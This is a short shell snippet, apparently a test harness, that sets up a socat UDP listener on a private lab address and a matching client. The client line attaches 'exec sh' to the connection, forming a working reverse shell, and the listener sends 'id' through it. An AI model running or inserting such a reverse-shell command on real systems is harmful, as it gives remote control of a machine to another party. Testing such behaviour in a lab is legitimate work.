# socat passes datagrams to a shell, and back what that answers.
peers() { (sleep 6; echo id; sleep 0.5; echo exit; sleep 1) | timeout 90 socat - UDP-LISTEN:4444,bind=10.200.1.2 > got & listening u 4444; }
scene() { timeout 9 socat UDP:10.200.1.2:4444 SYSTEM:'echo here; exec sh'; }
